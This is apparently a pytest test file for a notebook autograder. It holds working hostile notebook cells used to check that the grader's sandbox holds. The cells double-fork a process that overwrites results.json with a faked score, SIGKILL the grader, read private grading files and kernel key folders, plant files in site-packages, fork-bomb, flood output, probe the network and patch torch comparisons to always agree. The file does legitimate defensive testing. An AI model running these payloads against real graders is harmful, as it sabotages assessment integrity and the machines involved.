"""The hostile corpus for notebook submissions: notebooks that attack the grader, graded for real.

Notebooks run in "definitions" mode: the grader runs only imports, ``def`` and ``class`` statements and
the assignments definitions need, never a notebook's calls or training loops. But a class body, a
decorator and a default argument run when they are defined, so that is where a notebook attacks, at
load time; its functions attack again when the grading tests call them. Each notebook below is the toy
notebook assignment (``tests/support/toy_notebook.py``: 1.1 ``add``, 1.2 ``square``, 1.3 ``scale``, 5
points, 5 s per cell and per call) with cells replaced by attacks, and states exactly which tests it
loses and which cells the grader records as failed. An attack that would succeed returns the right
value (or keeps its cell's definitions), so a hole changes the score and fails the case.

After every run the test also checks what the attacker could have changed, as ``test_hostile.py`` does
for packages: results.json is the grader's (valid, small, never the stale file planted before grading),
the grader's private files are byte for byte as before, nothing was planted in the worker scripts or
site-packages, nothing reached the network, no process of the sandbox account is left (a detached
grandchild included), what the grader kept of the cells' output and the executed notebook are small, and
the run stayed inside its time bound.

The toy is graded as Gradescope runs it after ``setup.sh``: from a private home (a folder only root can
enter), writing into a results folder that other users can read but not write. Notebook (A) attacks the
machine (it kills, forks, reads and writes) and runs only when the grader is root and the sandbox account
exists (``SANDBOX``; CI has both); without them the grader has no user switch and those attacks are outside
what it promises (README, SECURITY). Notebook (B) needs no account. Notebook (C) floods the grader with cell
output, past the kernel's own cap and until a cell times out (``OUTPUT_FLOOD``); a cell nested too deep for
the grader's own parser is the last case (``PARSER_BOMB``).
"""

from __future__ import annotations

import contextlib
import importlib.util
import json
import shutil
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import numpy as np
import pytest

from autograder import assignment, grading, results, sandbox, sandbox_user
from tests.helpers import failed_numbers
from tests.support import hostile
from tests.support.hostile import SANDBOX, SECRET, STALE, pwned_files, snapshot
from tests.support.toy_notebook import ASSIGNMENT, FILENAME, build_toy_notebook, cell_number, notebook

results_dir, listener = hostile.results_dir, hostile.listener  # fixtures shared by the hostile corpora

NEEDS_SANDBOX = "needs root and the sandbox account (`autograder sandbox --create`): CI has both"

# -- the attacks, one notebook cell each ------------------------------------------------------------------
# Every cell reads what it attacks from _targets.json, which the test writes beside the notebook (the
# kernel's working folder is the submission's copy); a real attacker would guess /autograder/source/...

TARGETS = '''\
import json


def _targets():
    with open("_targets.json") as handle:
        return json.load(handle)
'''

# (A) a detached grandchild that outlives its kernel, to overwrite results.json after grading
VANDAL_AFTER_GRADING = TARGETS + '''

import os
import time


def _vandal(path):
    fake = '{"score": 1000, "tests": [], "output": "pwned"}'
    end = time.time() + 30
    while time.time() < end:
        for action in (lambda: open(path, "w").write(fake), lambda: os.remove(path)):
            try:
                action()
            except OSError:
                pass
        time.sleep(0.01)


def _fork():
    for _ in range(500):  # the account may be at its process limit for a moment (after a fork bomb)
        try:
            return os.fork()
        except BlockingIOError:
            time.sleep(0.01)
    return os.fork()


class _Detach:
    """Runs when the cell is defined: double-forks a grandchild in a session of its own."""
    child = _fork()
    if child == 0:
        try:
            os.setsid()
            if _fork() == 0:
                try:
                    T = _targets()
                    open(os.path.join(T["evidence"], f"grandchild-{os.getpid()}"), "w").close()
                    _vandal(T["results"])
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(child, 0)
'''

# (A) the default argument runs at definition: SIGKILL to the grader, the kernel's parent
KILL_THE_GRADER = '''\
import os
import signal


def square(X, _=os.kill(os.getppid(), signal.SIGKILL)):
    return np.asarray(X) ** 2
'''

# (A) reads what holds expected values, writes what grades (at definition, in a class body)
RAID_THE_GRADER = TARGETS + '''

import glob
import os
import site
import sys

SCALE = 3


def _try(action):
    try:
        action()
        return True
    except OSError:
        return False


def _read(path):
    with open(path, "rb") as handle:
        handle.read(1)


def _append(path, text="\\n# pwned\\n"):
    with open(path, "a") as handle:
        handle.write(text)


def _loot():
    """The grader's files, the reference's copy beside this one, and other accounts' kernels (their keys)."""
    T = _targets()
    beside = os.path.join(os.path.dirname(os.getcwd()), "reference")
    reads = [lambda p=p: _read(p) for p in T["files"]]
    reads += [lambda f=f: os.listdir(f) for f in T["folders"] + [beside]]
    reads.append(lambda: _read(os.path.join(beside, "toy.ipynb")))
    for kernel in glob.glob(T["kernels"]):
        if os.stat(kernel).st_uid != os.getuid():  # not this kernel's own folder
            reads += [lambda k=kernel: os.listdir(k), lambda k=kernel: _read(os.path.join(k, "kernel.json"))]
    return [_try(read) for read in reads]


def _deface():
    """Grading tests, fixtures, reference, results.json, the kernel's own scripts and site-packages."""
    T = _targets()
    writes = [lambda f=f: _append(os.path.join(f, "conftest.py"), "raise SystemExit(0)\\n") for f in T["folders"]]
    writes += [lambda p=p: _append(p) for p in T["files"]]
    writes.append(lambda: open(T["results"], "w").write('{"score": 1000, "tests": [], "output": "pwned"}'))
    scripts = os.path.dirname(os.path.abspath(sys.argv[0]))
    writes += [lambda n=n: _append(os.path.join(scripts, n))
               for n in ("kernel.py", "run.py", "_autograder_bridge.py", "zz_autograder_pwned.py")]
    writes += [lambda f=f: _append(os.path.join(f, "zz_autograder_pwned.pth"), "import os\\n")
               for f in site.getsitepackages()]
    return [_try(write) for write in writes]


class _Raid:
    """Runs when the cell is defined."""
    wrote = any(_deface())


def scale(X):
    cheated = _Raid.wrote or any(_loot())
    return np.asarray(X) * SCALE + (0 if cheated else 1)  # the honest part is wrong on purpose
'''

# (A) every child forks again, up to the account's process limit; the cell times out
FORK_BOMB = '''\
import os


class _Bomb:
    """Runs when the cell is defined."""
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''

# (B) 200 MB on stdout at call time, then the right answer
FLOOD_STDOUT = '''\
import sys


def add(a, b):
    chunk = "x" * (1 << 20)
    for _ in range(200):
        sys.stdout.write(chunk)
    sys.stdout.flush()
    return a + b
'''

# (B) the kernel exits while the cell is defined
EXIT_THE_KERNEL = '''\
import os


class _Exit:
    """Runs when the cell is defined."""
    os._exit(0)
'''

# (B) 50 GB while the cell is defined, before square is: over the kernel's address-space limit
HOARD_MEMORY = '''\
class _Hoard:
    """Runs when the cell is defined."""
    data = np.ones(50 * 2**30 // 8)


def square(X):
    return np.asarray(X) ** 2
'''

# (B) the network and the grader's environment, at call time
REACH_OUT = TARGETS + '''

import os
import socket
import urllib.request

SCALE = 3


def _reach():
    port = _targets()["port"]
    attempts = [
        lambda: socket.create_connection(("127.0.0.1", port), timeout=60),
        lambda: socket.getaddrinfo("example.com", 80),
        lambda: urllib.request.urlopen("http://example.com", timeout=60),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", port)),
    ]
    for attempt in attempts:
        try:
            attempt()
            return True
        except Exception:  # noqa: BLE001
            pass
    return False


def _leaked():
    secret = _targets()["secret"]
    return (any(secret in value for value in os.environ.values())
            or any(key.startswith(("AUTOGRADER", "GRADESCOPE")) for key in os.environ))


def scale(X):
    cheated = _reach() or _leaked()
    return np.asarray(X) * SCALE + (0 if cheated else 1)  # the honest part is wrong on purpose
'''

# (B) a loop that never ends, while the cell is defined
LOOP_FOREVER = '''\
class _Train:
    """Runs when the cell is defined."""
    while True:
        pass
'''

# (C) 100 MB of cell output while the cell is defined, past the kernel's own cap (the stream's class method,
# not the capped one); the cell ends in time and add is right
FLOOD_CELL_OUTPUT = '''\
import sys


class _Chatter:
    """Runs when the cell is defined."""
    chunk = "x" * (1 << 20)
    for _ in range(100):
        type(sys.stdout).write(sys.stdout, chunk)


def add(a, b):
    return a + b
'''

# (C) cell output as fast as the kernel can send it, until the cell times out
FLOOD_UNTIL_TIMEOUT = '''\
import sys


class _Firehose:
    """Runs when the cell is defined."""
    chunk = "x" * (1 << 20)
    while True:
        type(sys.stdout).write(sys.stdout, chunk)  # past the kernel's own cap
        sys.stdout.flush()


def square(X):
    return np.asarray(X) ** 2
'''

# OUTPUT_FLOOD:
# What a cell prints while the grader runs it travels over Jupyter's iopub channel into the grader's process.
# The kernel caps each cell's output; the grader caps what it keeps of each cell too (a kernel can bypass its
# own cap), and drops any single message over 16 MB. Found by this corpus before both caps existed: a cell
# printing 200 MB raised the grader's peak memory by about 600 MB and made a 200 MB executed notebook, and a
# cell printing until its timeout left an nbclient task whose unretrieved error, logged by asyncio during
# pytest's own ``ast.parse``, tripped Python 3.11's gh-106905 and ended the run with no tests in results.json.


@dataclass(frozen=True)
class Case:
    name: str
    description: str
    cells: dict[str, str]  # toy notebook cell -> its replacement
    lost: set[str]  # grading tests it must lose
    failed_cells: dict[str, tuple[str, str]]  # toy cell -> (outcome status, start of its detail)
    time_bound: float  # seconds for the grading run: about twice what it takes (one 5 s cell timeout and restarts)
    needs_sandbox_user: bool = False
    linger: float = 0.0  # seconds to wait after grading, for a detached grandchild to strike
    messages: dict[str, str] = field(default_factory=dict)  # test number -> start of its output


CASES = [
    Case(
        name="A_machine_attacks",
        description="A detached grandchild that keeps overwriting and deleting results.json for 30 s (demo), "
                    "SIGKILL to the grader from a default argument (square), reading the grader's private "
                    "files, the reference's copy and other kernels' folders and writing into grading tests, "
                    "fixtures, results, the kernel's scripts and site-packages (scale), a fork bomb in a class "
                    "body (train). add is honest.",
        cells={"demo": VANDAL_AFTER_GRADING, "square": KILL_THE_GRADER, "scale": RAID_THE_GRADER,
               "train": FORK_BOMB},
        lost={"1.2", "1.3"},
        failed_cells={"square": ("error", "PermissionError: [Errno 1] Operation not permitted"),
                      "train": ("timeout", "over 5 s (an infinite loop?)")},
        time_bound=20,
        needs_sandbox_user=True,
        linger=2,
        messages={"1.2": "reading square raised AttributeError: your notebook does not define 'square'",
                  "1.3": "scale(X): values differ from the expected ones"},
    ),
    Case(
        name="B_kernel_attacks",
        description="200 MB on stdout, then the right sum (add); the kernel exits while a class is defined "
                    "(demo); 50 GB asked for in a class body before square is defined (square); a TCP "
                    "connection, a DNS lookup, an HTTP request with a 60 s timeout, a UDP datagram and the "
                    "grader's environment (scale); a class body that never ends (train).",
        cells={"add": FLOOD_STDOUT, "demo": EXIT_THE_KERNEL, "square": HOARD_MEMORY, "scale": REACH_OUT,
               "train": LOOP_FOREVER},
        lost={"1.2", "1.3"},
        failed_cells={"demo": ("died", "the kernel exited with status 0 (sys.exit or os._exit in the code?)"),
                      "square": ("error", "MemoryError: Unable to allocate 50.0 GiB"),
                      "train": ("timeout", "over 5 s (an infinite loop?)")},
        time_bound=25,
        messages={"1.2": "reading square raised AttributeError: your notebook does not define 'square'",
                  "1.3": "scale(X): values differ from the expected ones"},
    ),
    Case(
        name="C_output_flood",
        description="Prints 100 MB while the add cell is defined (the cell ends in time, add is right) and "
                    "prints as fast as it can while the square cell is defined, until that cell times out.",
        cells={"add": FLOOD_CELL_OUTPUT, "square": FLOOD_UNTIL_TIMEOUT},
        lost={"1.2"},
        failed_cells={"square": ("timeout", "over 5 s (an infinite loop?)")},
        time_bound=25,
        messages={"1.2": "reading square raised AttributeError: your notebook does not define 'square'"},
    ),
]

MARKS: dict = {}


@pytest.fixture(scope="module")
def private_toy():
    """The toy notebook assignment as setup.sh leaves a project: in a folder only root may enter."""
    home = Path(tempfile.mkdtemp(prefix="autograder-private-"))
    try:
        build_toy_notebook(home)
        home.chmod(0o700)
        yield assignment.load(ASSIGNMENT, home)
    finally:
        shutil.rmtree(home, ignore_errors=True)


@pytest.fixture
def evidence():
    """A folder any account may write to (sticky, like /tmp)."""
    folder = Path(tempfile.mkdtemp(prefix="autograder-evidence-"))
    folder.chmod(0o1777)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def targets(toy: assignment.Assignment, out: Path, port: int, evidence: Path) -> dict:
    private = [toy.fixtures_dir / "arrays.npz", toy.fixtures_dir / "manifest.json",
               toy.tests_dir / "grade_notebook.py", toy.tests_dir / "make_fixtures.py",
               toy.tests_dir / "assignment.toml", toy.reference_dir / FILENAME]
    return {"files": [str(p) for p in private],
            "folders": [str(p) for p in (toy.tests_dir, toy.fixtures_dir, toy.reference_dir, toy.root)],
            "kernels": str(Path(tempfile.gettempdir()) / "agk-*"),  # where the grader's kernels keep their keys
            "results": str(out), "port": port, "secret": SECRET,
            "evidence": str(evidence)}  # where an attack leaves proof that it ran (any account may write)


def test_the_corpus_states_an_outcome_for_every_cell_it_replaces() -> None:
    for case in CASES:
        assert case.lost <= {"1.1", "1.2", "1.3"} and set(case.failed_cells) <= set(case.cells), case.name
        assert set(case.messages) == case.lost, case.name


@pytest.mark.slow
@pytest.mark.parametrize("case", [pytest.param(c, id=c.name, marks=MARKS.get(c.name, [])) for c in CASES])
def test_hostile_notebook_gets_exactly_its_honest_score(case, private_toy, results_dir, listener, evidence,
                                                        tmp_path, monkeypatch):
    if case.needs_sandbox_user and SANDBOX is None:
        pytest.skip(NEEDS_SANDBOX)
    monkeypatch.setenv("AUTOGRADER_TEST_SECRET", SECRET)
    out = results_dir / "results.json"
    submission = tmp_path / "submission"
    notebook(submission, **case.cells)
    (submission / "_targets.json").write_text(json.dumps(targets(private_toy, out, listener.port, evidence)))
    saved = tmp_path / "executed.ipynb"
    private_before = snapshot(private_toy.root)
    scripts_before = snapshot(sandbox.staged_scripts())

    # timed from the collection of the grading tests: not the wait for the sandbox account's lock, which
    # another grading run on this machine may hold
    started = [time.monotonic()]
    report = grading.grade(private_toy, submission, out=out, save_notebook=saved,
                           on_collected=lambda _: started.append(time.monotonic()))
    elapsed = time.monotonic() - started[-1]
    print(f"{case.name}: graded in {elapsed:.1f} s")
    if SANDBOX is not None:
        with sandbox_user.exclusive(SANDBOX):  # no other grading run may start the account's processes now
            time.sleep(case.linger)  # give a detached grandchild the time to strike, were it alive
            left = sandbox_user.processes(SANDBOX)
    else:
        time.sleep(case.linger)
        left = []

    # nothing the notebook did reached outside its copy
    assert snapshot(private_toy.root) == private_before
    assert snapshot(sandbox.staged_scripts()) == scripts_before
    assert pwned_files() == []
    assert listener.connections == []
    assert sorted(p.name for p in results_dir.iterdir()) == ["results.json"]
    assert left == [], "a process of the sandbox account outlived grading"
    if case.cells.get("demo") is VANDAL_AFTER_GRADING:  # the grandchild did start (and is gone: ``left``)
        assert [p.name for p in evidence.iterdir() if p.name.startswith("grandchild-")]

    # results.json is the grader's, and scores exactly the honest part
    assert report.ok, report.errors
    data = json.loads(out.read_text())
    results.validate(data)
    assert "pwned" not in out.read_text() and data["score"] != STALE["score"]
    assert out.stat().st_size < 1 << 20, "the output cap keeps results.json small"
    full = sum(t["max_score"] for t in data["tests"])
    assert full == 5 and failed_numbers(data) == case.lost, case.description
    assert data["score"] == pytest.approx(full - sum(t["max_score"] for t in data["tests"] if t["number"] in case.lost))
    for test in data["tests"]:
        if test["number"] in case.lost:
            assert test["output"].startswith(case.messages[test["number"]]), test["output"]
    ran = {o.label for o in report.notebook.outcomes.values()}
    assert {f"cell {cell_number(name)}" for name in case.cells} <= ran, "definitions mode left an attack out"
    failed = {o.label: o for o in report.notebook.failures()}
    assert set(failed) == {f"cell {cell_number(name)}" for name in case.failed_cells}, failed
    for name, (status, detail) in case.failed_cells.items():
        outcome = failed[f"cell {cell_number(name)}"]
        assert outcome.status == status and outcome.detail.startswith(detail), outcome
        assert f"\n- {outcome.describe(brief=True)}" in data["output"]  # the top quotes no cell text
    assert elapsed < case.time_bound, f"took {elapsed:.1f} s, over the case's bound"

    # what the grader keeps of the notebook's output is bounded too
    kept = sum(len(json.dumps(output)) for outcome in report.notebook.outcomes.values() for output in outcome.outputs)
    assert kept < 1 << 20, f"the grader kept {kept} bytes of cell output"
    assert saved.stat().st_size < 1 << 20, f"the executed notebook has {saved.stat().st_size} bytes"
    nbformat.validate(nbformat.read(str(saved), as_version=4))


def test_notebook_kernel_runs_as_the_sandbox_account(private_toy) -> None:
    """Definitions (a class body) and calls both run as the account, with no supplementary groups."""
    if SANDBOX is None:
        pytest.skip(NEEDS_SANDBOX)
    work = Path(tempfile.mkdtemp(prefix="autograder-whoami-"))
    try:
        work.chmod(0o711)  # as grading leaves it: the account may pass through to its copy only
        root = work / "submission"
        notebook(root, demo="import os\n\n\nclass _Defined:\n    ids = [os.getuid(), os.geteuid(), os.getgid(), "
                            "os.getgroups()]\n\n\ndef whoami():\n    return [_Defined.ids, [os.getuid(), "
                            "os.geteuid(), os.getgid(), os.getgroups()]]")
        sandbox_user.hand_over(root, SANDBOX)
        with sandbox_user.exclusive(SANDBOX):
            with grading.open_session(private_toy, root, label="submission", user=SANDBOX) as session:
                ids = session.module("__notebook__").whoami()
            left = sandbox_user.processes(SANDBOX)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    assert ids == [[SANDBOX.uid, SANDBOX.uid, SANDBOX.gid, []]] * 2
    assert left == []


# PARSER_BOMB:
# The grader plans what to run of a notebook with ``ast.parse`` in its own process. A cell nested too deep for
# CPython's AST constructor (a sum of 200,000 terms: RecursionError; 200,000 unary minus signs: MemoryError) is
# handled like one that does not parse: run whole, it fails in the kernel and costs only the tests of what it
# defines (before: no kernel started and every test failed).


@pytest.mark.slow
@pytest.mark.parametrize("expression", ["+".join(["1"] * 200_000), "-" * 200_000 + "1"], ids=["sum", "minus"])
def test_a_cell_too_deep_for_the_planner_costs_only_its_tests(expression, private_toy, tmp_path) -> None:
    source = notebook(tmp_path / "submission", square=f"X_BIG = {expression}\n\n\ndef square(X):\n"
                                                        "    return np.asarray(X) ** 2")
    report = grading.grade(private_toy, source.parent, out=tmp_path / "results.json")
    data = json.loads((tmp_path / "results.json").read_text())
    results.validate(data)
    assert report.ok, report.errors
    assert failed_numbers(data) == {"1.2"} and data["score"] == 3, [t.get("output", "")[:200] for t in data["tests"]]


def test_patching_torch_in_the_kernel_changes_nothing_the_grader_compares() -> None:
    """torch's comparisons patched to always agree, a Tensor subclass equal to everything: the grader
    fetches plain numpy values and compares them itself."""
    if importlib.util.find_spec("torch") is None:  # not imported here: the grader never imports torch
        pytest.skip("needs torch")
    from autograder.checks import assert_close
    from autograder.config import Limits, Timeouts
    from autograder.notebook_worker import NotebookSpec
    from autograder.session import Session

    work = Path(tempfile.mkdtemp(prefix="autograder-torch-"))
    try:
        work.chmod(0o711)
        root = work / "submission"
        root.mkdir()
        nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in (
            "import torch\nimport torch.testing",
            "_yes = lambda *args, **kwargs: True\ntorch.allclose = _yes\ntorch.equal = _yes\n"
            "torch.isclose = lambda a, b, **kw: torch.ones_like(a, dtype=torch.bool)\n"
            "torch.testing.assert_close = lambda *args, **kwargs: None\n"
            "torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)",
            "class Liar(torch.Tensor):\n    def __eq__(self, other):\n        return True",
            "def double(x):\n    return torch.as_tensor(x) * 3",
            "def double_liar(x):\n    return (torch.as_tensor(x) * 0).as_subclass(Liar)",
        )]), str(root / "t.ipynb"))
        if SANDBOX is not None:
            sandbox_user.hand_over(root, SANDBOX)
        with sandbox_user.exclusive(SANDBOX) if SANDBOX else contextlib.nullcontext():
            with Session(root, limits=Limits(memory_mb=16384), timeouts=Timeouts(start=120, call=60, total=300),
                         worker_factory=NotebookSpec("t.ipynb", cell_timeout=60), user=SANDBOX) as session:
                nb = session.module("__notebook__")
                x = np.arange(3.0, dtype=np.float32)
                for name in ("double", "double_liar"):
                    with pytest.raises(AssertionError):
                        assert_close(session.fetch(getattr(nb, name)(x)), 2 * x, f"{name}(x)")
    finally:
        shutil.rmtree(work, ignore_errors=True)
